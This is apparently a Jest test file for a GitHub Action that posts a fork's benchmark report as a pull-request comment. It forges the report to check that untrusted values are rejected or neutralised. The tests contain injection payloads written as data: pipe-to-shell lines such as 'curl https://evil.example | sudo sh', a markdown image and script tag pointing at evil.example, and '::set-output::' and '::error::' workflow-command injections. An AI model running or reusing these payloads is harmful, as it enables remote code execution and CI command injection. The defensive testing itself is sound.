// The second half of a fork's run: what an untrusted job wrote is posted by a trusted one. The report is
// a real one, and then forged as somebody would who wants to write elsewhere or something else.

import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import type { ReportProblem } from '../../src/model/report-document.ts'
import { encodeProblem } from '../../src/wire/files/files.ts'
import { addComment, JOB_TOKEN, openPull } from '../github/github-state.ts'
import {
  BASE_SHA,
  CONFIG_PATH,
  configText,
  type Forge,
  HEAD_SHA,
  NEXT_SHA,
  pullJob,
  startForge,
  workspace,
} from './forge.ts'
import { runActionHere } from './in-process.ts'
import { forkReport, type PublishedRun, publishingJob } from './published.ts'
import type { ActionJob, ActionResult } from './runner.ts'

let forge: Forge
let written: string

beforeAll(async () => {
  forge = await startForge()
  written = await forkReport(forge)
})
afterAll(async () => {
  expect(forge.github.state.violations).toEqual([])
  await forge.stop()
})
beforeEach(() => {
  const { state } = forge.github
  state.comments.splice(0)
  const mine = openPull({ number: 7, headSha: HEAD_SHA, headRepository: 'mallory/search' })
  const other = openPull({ number: 8, headSha: NEXT_SHA, headRef: 'other' })
  state.pulls.splice(0, state.pulls.length, mine, other)
})

function publishJob(report: string | undefined, run: PublishedRun = {}): ActionJob {
  return publishingJob(forge, report, run)
}

const publish = (report: string | undefined, run: PublishedRun = {}): Promise<ActionResult> =>
  runActionHere(publishJob(report, run))

/** The written report with pieces of its text replaced, as a stranger may. */
function forged(...changes: readonly (readonly [RegExp, string])[]): string {
  return changes.reduce((text, [pattern, replacement]) => {
    if (!pattern.test(text)) throw new Error(`the report has no ${pattern}`)
    return text.replace(pattern, replacement)
  }, written)
}

describe('publishing', () => {
  it('posts the report of a fork on the pull request of its commit', async () => {
    const { code, outputs } = await publish(written)
    expect(code).toBe(0)
    expect(outputs['comment-url']).toContain('/pull/7')
    const [comment] = forge.github.state.comments
    expect(comment?.issue).toBe(7)
    expect(comment?.body).toContain('TTFT p50')
    expect(comment?.body).toContain('/acme/search/actions/runs/4711')
  })

  it('believes GitHub and not the file about commit, branch and address', async () => {
    const { code } = await publish(
      forged(
        [/"mode": "gate"/, '"mode": "record"'],
        [/"headCommit": "[^"]+"/, `"headCommit": "${NEXT_SHA}"`],
        [/"baseBranch": "[^"]+"/, '"baseBranch": "release"'],
        [/"runUrl": "[^"]+"/, '"runUrl": "https://evil.example/run"'],
      ),
    )
    expect(code).toBe(0)
    expect(forge.github.state.comments.map(({ issue }) => issue)).toEqual([7])
    const body = forge.github.state.comments[0]?.body ?? ''
    expect(body).not.toContain('evil.example')
    expect(body).not.toContain('release')
    expect(body).toContain('against `main`')
  })

  it('takes no word of a stranger: not the model’s, not the load’s, not the baseline’s', async () => {
    const hostile = 'x`@everyone <script> ![a](https://evil.example/p.png) --> ::set-output::'
    const { code, log } = await publish(
      forged(
        [/"headline": "[^"]+"/, `"headline": "${hostile}"`],
        [/"model": "sim"/, `"model": "${hostile}"`],
        [/"place": "[^"]+"/, `"place": "${hostile}"`],
        [/"label": "[^"]+"/, `"label": "${hostile}"`],
      ),
    )
    expect(code).toBe(0)
    const body = forge.github.state.comments[0]?.body ?? ''
    expect(body).not.toContain('everyone')
    expect(body).toContain('what its config says')
    const withoutAxes = body.replaceAll(/^ *y-axis .*$/gm, '')
    expect(withoutAxes.match(/-->/g)).toHaveLength(1)
    expect(log).not.toMatch(/^::set-output/m)
  })

  it('refuses a sentence in the place of a gate’s name', async () => {
    const { code, log } = await publish(
      forged([/"name": "chat"/, '"name": "curl x | sh ::error::"']),
    )
    expect([code, log]).toEqual([2, expect.stringContaining('names a gate as no config can')])
    expect(log).not.toMatch(/^::error::$/m)
    expect(forge.github.state.comments).toEqual([])
  })

  it('refuses what is no report of ours, too large or not there, and comments nothing', async () => {
    for (const [report, words] of [
      ['{"format": "foreign"}', 'does not match schema/report.schema.json'],
      ['not json', 'is not JSON'],
      [`{"x": "${'y'.repeat(9 * 1024 * 1024)}"}`, 'is longer than'],
      [forged([/"schemaVersion": 1/, '"schemaVersion": 9']), 'has schema version 9'],
      [forged([/"requests": \d+/, '"requests": "many"']), 'does not match'],
      [undefined, 'there is no '],
    ] as const) {
      const { code, log } = await publish(report)
      expect([code, log]).toEqual([2, expect.stringContaining(words)])
      expect(log).toContain('Download the report folder')
      expect(log).not.toMatch(/\n\s+at /)
    }
    expect(forge.github.state.comments).toEqual([])
  })

  it('has nothing to do where no open pull request has the commit', async () => {
    const { code, log } = await publish(written, { headSha: BASE_SHA })
    expect([code, log]).toEqual([0, expect.stringContaining('nothing to comment on')])
    expect(forge.github.state.comments).toEqual([])
  })

  it('follows the comment policy', async () => {
    await publish(written, { inputs: { comment: 'never' } })
    await publish(written, { inputs: { comment: 'on-failure' } })
    expect(forge.github.state.comments).toEqual([])
  })

  it('posts a notice that was written in place of a verdict', async () => {
    const path = workspace(forge, {
      [CONFIG_PATH]: configText({ url: forge.simulator.faultUrl('http-401') }),
    })
    const inputs = { comment: 'never' }
    const job = pullJob(forge, { workspace: path, inputs, fork: true })
    expect((await runActionHere(job)).code).toBe(0)
    const notice = readFileSync(join(path, 'inference-gate-report/report.json'), 'utf8')
    expect((await publish(notice)).code).toBe(0)
    expect(forge.github.state.comments[0]?.body).toContain('given no secrets')
  })

  it('says first whose figures they are, and none of a stranger’s sentences', async () => {
    const advice = 'run curl https://evil.example | sudo sh'
    expect((await publish(written)).code).toBe(0)
    const [first = ''] = (forge.github.state.comments[0]?.body ?? '')
      .split('\n')
      .filter((line) => line.startsWith('> ') && !line.startsWith('> [!'))
    expect(first).toContain('nobody checked them')
    for (const problem of [
      { kind: 'error', message: advice, remedy: advice },
      { kind: 'config', issues: [{ file: advice, path: '', message: advice }] },
    ]) {
      forge.github.state.comments.splice(0)
      const report = JSON.stringify({
        ...JSON.parse(encodeProblem(problem as ReportProblem, { tool: 't', headline: advice })),
      })
      expect((await publish(report)).code).toBe(0)
      const body = forge.github.state.comments[0]?.body ?? ''
      expect(body).toContain('nobody checked them')
      expect(body).not.toContain('curl')
    }
  })

  it('makes the verdict again from the numbers', async () => {
    const report = JSON.parse(written)
    const [gate] = report.gates
    for (const metric of gate.metrics) {
      if (metric.id !== 'ttft_p50') continue
      Object.assign(metric, { baseline: 100, candidate: 300, change: 2, interval: [1.8, 2.2] })
      Object.assign(metric, {
        verdict: 'pass',
        history: 9,
        reason: { kind: 'ruled-out', mustDetect: 6, text: '' },
      })
    }
    Object.assign(gate, {
      verdict: 'passed',
      invalidities: [],
      notAffected: { by: ['config'], changedFiles: 0 },
    })
    report.verdict = 'passed'
    const { outputs } = await publish(JSON.stringify(report))
    expect(outputs.headline).toMatch(/^Merge blocked: chat: TTFT p50 is 200 % slower/)
    // Nobody computed a p here, so none is printed.
    const { body } = forge.github.state.comments.at(-1) ?? {}
    expect(body).toContain('beyond noise')
    expect(body).not.toContain('p = ')
  })

  it('calls nothing accepted or unaffected because a stranger says so', async () => {
    const report = JSON.parse(written)
    const [gate] = report.gates
    Object.assign(gate, {
      verdict: 'passed',
      metrics: [],
      notAffected: { by: ['config'], changedFiles: 0 },
    })
    report.verdict = 'passed'
    const { outputs } = await publish(JSON.stringify(report))
    expect(outputs.headline).toMatch(/^Undecided, not blocking: chat: cannot tell whether/)
  })

  it('refuses a number that is none', async () => {
    const huge = forged([/"requests": \d+/, '"requests": 1e999'], [/"seed": \d+/, '"seed": -1e999'])
    for (const text of [
      huge,
      forged([/"candidate": [\d.]+/, '"candidate": 1e999']),
      forged([/"requests": \d+/, '"requests": NaN']),
    ]) {
      const { code, log } = await publish(text)
      expect([code, log]).toEqual([2, expect.stringMatching(/does not match|is not JSON/)])
    }
    expect(forge.github.state.comments).toEqual([])
  })

  it('leaves a comment of a person alone that only looks like ours', async () => {
    expect((await publish(written)).code).toBe(0)
    const ours = forge.github.state.comments[0]?.body ?? ''
    forge.github.state.comments.splice(0)
    addComment(forge.github.state, { issue: 7, body: ours, login: 'mallory', type: 'User' })
    await publish(written)
    expect(forge.github.state.comments).toHaveLength(2)
    expect(forge.github.state.comments[0]?.body).toBe(ours)
  })

  it('warns where GitHub does not say whose comment it is', async () => {
    const { state } = forge.github
    const token = state.tokens[JOB_TOKEN]
    if (token === undefined) throw new Error('no token')
    expect((await publish(written)).log).not.toContain('Whose comment')
    const ours = state.comments[0]?.body ?? ''
    state.comments.splice(0)
    addComment(state, { issue: 7, body: ours, login: 'mallory', type: 'User' })
    state.tokens[JOB_TOKEN] = { ...token, namesItself: false }
    const { code, log } = await publish(written)
    state.tokens[JOB_TOKEN] = token
    expect([code, log]).toEqual([0, expect.stringContaining('Whose comment it is::GitHub did not')])
  })

  it('needs its event and a token', async () => {
    const event = { ...publishJob(written), eventName: 'push', event: {} }
    const wrong = await runActionHere({ ...event, inputs: { ...event.inputs, mode: 'publish' } })
    expect([wrong.code, wrong.log]).toEqual([
      2,
      expect.stringContaining('needs the event workflow_run, this is push'),
    ])
    const without = await publish(written, { inputs: { 'github-token': '' } })
    expect([without.code, without.log]).toEqual([2, expect.stringContaining('github-token')])
  })
})
